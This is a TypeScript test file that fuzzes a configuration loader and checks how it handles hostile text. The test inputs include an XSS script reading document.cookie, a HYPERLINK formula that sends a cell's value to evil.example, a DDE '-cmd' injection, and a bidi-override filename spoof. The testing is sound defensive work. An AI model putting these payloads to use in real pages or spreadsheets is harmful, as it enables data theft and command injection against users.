/**
 * Hostile configuration text and fuzzing of the configuration loader: every input is
 * either a configuration or a ConfigError naming the field path — never another
 * exception — and accepted text is bounded, visible and kept exactly as written
 * (renderers escape it; the loader never rewrites it).
 */
import fc from 'fast-check';
import defaultPack from '../../functions/core/config/default-pack.json';
import {
  MAX_CONFIG_CHARS,
  parsePackConfig,
  parsePackConfigText,
  type PackConfig,
} from '../../functions/core/config/pack-config';
import { ConfigError } from '../../functions/core/errors';

type Json = null | boolean | number | string | Json[] | { [key: string]: Json };

function copy(): { [key: string]: Json } {
  return JSON.parse(JSON.stringify(defaultPack)) as { [key: string]: Json };
}

/**
 * The default configuration with the first indicator's title (or code), the pack title, or a recipient set to `value`.
 */
function withText(field: 'title' | 'code' | 'packTitle' | 'to', value: string): { [key: string]: Json } {
  const config = copy();
  const paths = {
    packTitle: ['title'],
    to: ['distribution', 'to', 0],
    title: ['sections', 0, 'indicators', 0, 'title'],
    code: ['sections', 0, 'indicators', 0, 'code'],
  };
  setAt(config, paths[field], value);
  return config;
}

function outcome(value: unknown): PackConfig | ConfigError {
  try {
    return parsePackConfig(value, 'pack.json');
  } catch (error) {
    if (error instanceof ConfigError) return error;
    throw error; // anything else fails the test
  }
}

function rejected(value: unknown): string {
  const result = outcome(value);
  if (!(result instanceof ConfigError)) throw new Error('expected a ConfigError');
  return result.message;
}

describe('hostile configuration text', () => {
  it.each([
    ['HTML and script', '<script>alert(document.cookie)</script><img src=x onerror=alert(1)>'],
    ['a formula', '=HYPERLINK("http://evil.example/?"&A1,"Click")'],
    ['a leading plus, minus or at', '+1-1 @SUM(A1:A9) -cmd|"/c calc"!A0'],
    ['quotes and ampersands', `O'Brien & "Sons" <b>`],
    ['non-Latin text', 'Kinderschutz – 儿童保护 – حماية الطفل'],
  ])('%s in a title is accepted and kept exactly, as text', (_label, title) => {
    const config = outcome(withText('title', title));
    if (config instanceof ConfigError) throw config;
    expect(config.sections[0].indicators[0].title).toBe(title);
  });

  it.each([
    ['U+202E right-to-left override', 'Children \u202Eseen\u202C', 'U+202E', 10],
    ['U+2066 left-to-right isolate', '\u2066Op388', 'U+2066', 1],
    ['U+200B zero-width space', 'Op\u200B388', 'U+200B', 3],
    ['a NUL', 'Op\u0000', 'U+0000', 3],
    ['a line break inside', 'two\nlines', 'U+000A', 4],
    ['an escape character', 'red \u001b[31m', 'U+001B', 5],
  ])('%s in a title is refused with the field path and the character', (_label, title, character, position) => {
    expect(rejected(withText('title', title))).toContain(
      'sections[0].indicators[0].title: contains the invisible ' +
        `or control character ${character} at position ${position}`,
    );
  });

  it('bidi and control characters in the pack title and a recipient are refused too', () => {
    expect(rejected(withText('packTitle', 'Pack \u202Egnp.exe'))).toContain(
      'title: contains the invisible or control character U+202E',
    );
    expect(rejected(withText('to', 'ceo\u202E@haringey.example'))).toMatch(
      /distribution\.to\[0\]: contains the invisible or control character U\+202E/,
    );
  });

  it.each(['=SUM(A1)', '+44', '-1', '@cmd', ' =x', '<b>', 'Op\u202E1'])(
    'an indicator code %j that is not a plain identifier is refused',
    (value) => {
      expect(rejected(withText('code', value))).toContain('sections[0].indicators[0].code: ');
    },
  );

  it('very long strings are bounded, with the path, and the message stays short', () => {
    const message = rejected(withText('title', 'x'.repeat(100_000)));
    expect(message).toMatch(/sections\[0\]\.indicators\[0\]\.title: Too big: expected string to have <=500 characters/);
    expect(message.length).toBeLessThan(400);
    expect(rejected(withText('code', 'C'.repeat(41)))).toContain('sections[0].indicators[0].code: ');
    const measure = copy();
    setAt(measure, ['sections', 0, 'indicators', 0, 'measure'], 'm'.repeat(500_000));
    expect(rejected(measure).length).toBeLessThan(1000);
  });

  it('a configuration text over the size limit is refused before it is parsed', () => {
    const huge = `{"title": "${'x'.repeat(MAX_CONFIG_CHARS)}"}`;
    expect(() => parsePackConfigText(huge, 'pack.json')).toThrow(
      new ConfigError(
        'Invalid pack configuration in pack.json: it is ' +
          `${huge.length.toLocaleString('en-GB')} characters long, over the limit of 1,000,000`,
      ),
    );
  });

  it('lists are bounded', () => {
    const config = copy();
    setAt(
      config,
      ['distribution', 'to'],
      Array.from({ length: 201 }, (_, i) => `r${i}@haringey.example`),
    );
    expect(rejected(config)).toMatch(/distribution\.to: Too big: expected array to have <=200 items/);
  });
});

/** Sets the value at a path that exists in `root`. */
function setAt(root: Json, path: ReadonlyArray<string | number>, value: Json): void {
  let node = root;
  path.forEach((key, i) => {
    const last = i === path.length - 1;
    if (Array.isArray(node)) {
      if (last) node[Number(key)] = value;
      else node = node[Number(key)];
    } else if (node !== null && typeof node === 'object') {
      if (last) node[String(key)] = value;
      else node = node[String(key)];
    }
  });
}

/** A JSON value with the characters that tend to break things. */
const hostileString = fc.oneof(
  fc.string({ maxLength: 30 }),
  fc.string({ unit: 'binary', maxLength: 30 }),
  fc.constantFrom(
    '__proto__',
    'constructor',
    'toString',
    '\u202E',
    '=1+1',
    '<script>',
    '',
    ' ',
    '2013/14',
    '2013',
    'cp_rate',
    'a@haringey.example',
  ),
);
const jsonValue: fc.Arbitrary<Json> = fc.letrec<{ value: Json }>((tie) => ({
  value: fc.oneof(
    { depthSize: 'small' },
    hostileString,
    fc.double(),
    fc.integer(),
    fc.boolean(),
    fc.constant(null),
    fc.array(tie('value'), { maxLength: 4 }),
    fc.dictionary(hostileString, tie('value'), { maxKeys: 4 }),
  ),
})).value;

describe('fuzz: configuration loader', () => {
  function expectConfigOrPathError(value: unknown): void {
    const result = outcome(value);
    if (result instanceof ConfigError) {
      expect(result.message).toMatch(
        /^Invalid pack configuration in pack\.json:(\n {2}- [^\n]*: [^\n]+)+$|^Invalid pack configuration in pack\.json: /,
      );
      expect(result.message.length).toBeLessThan(20 * 700);
    }
  }

  it('arbitrary values', () => {
    fc.assert(fc.property(fc.oneof(jsonValue, fc.anything()), expectConfigOrPathError), { numRuns: 500 });
  });

  it('arbitrary text', () => {
    fc.assert(
      fc.property(
        fc.oneof(
          fc.string(),
          fc.json(),
          fc.jsonValue().map((v) => JSON.stringify(v)),
        ),
        (text) => {
          try {
            parsePackConfigText(text, 'pack.json');
          } catch (error) {
            expect(error).toBeInstanceOf(ConfigError);
          }
        },
      ),
      { numRuns: 500 },
    );
  });

  it('the default configuration with one value anywhere in it replaced', () => {
    // Every path to a value in the default configuration.
    const paths: Array<Array<string | number>> = [];
    const walk = (node: Json, path: Array<string | number>): void => {
      paths.push(path);
      if (Array.isArray(node)) node.forEach((child, i) => walk(child, [...path, i]));
      else if (node !== null && typeof node === 'object')
        for (const [key, child] of Object.entries(node)) walk(child, [...path, key]);
    };
    walk(copy(), []);
    fc.assert(
      fc.property(fc.constantFrom(...paths.filter((p) => p.length > 0)), jsonValue, (path, value) => {
        const config = copy();
        setAt(config, path, value);
        expectConfigOrPathError(config);
      }),
      { numRuns: 500 },
    );
  });

  it('a deeply nested value is a ConfigError, not a stack overflow', () => {
    const deep = '['.repeat(100_000) + ']'.repeat(100_000);
    expect(() => parsePackConfigText(`{"title": ${deep}}`, 'pack.json')).toThrow(ConfigError);
  });
});
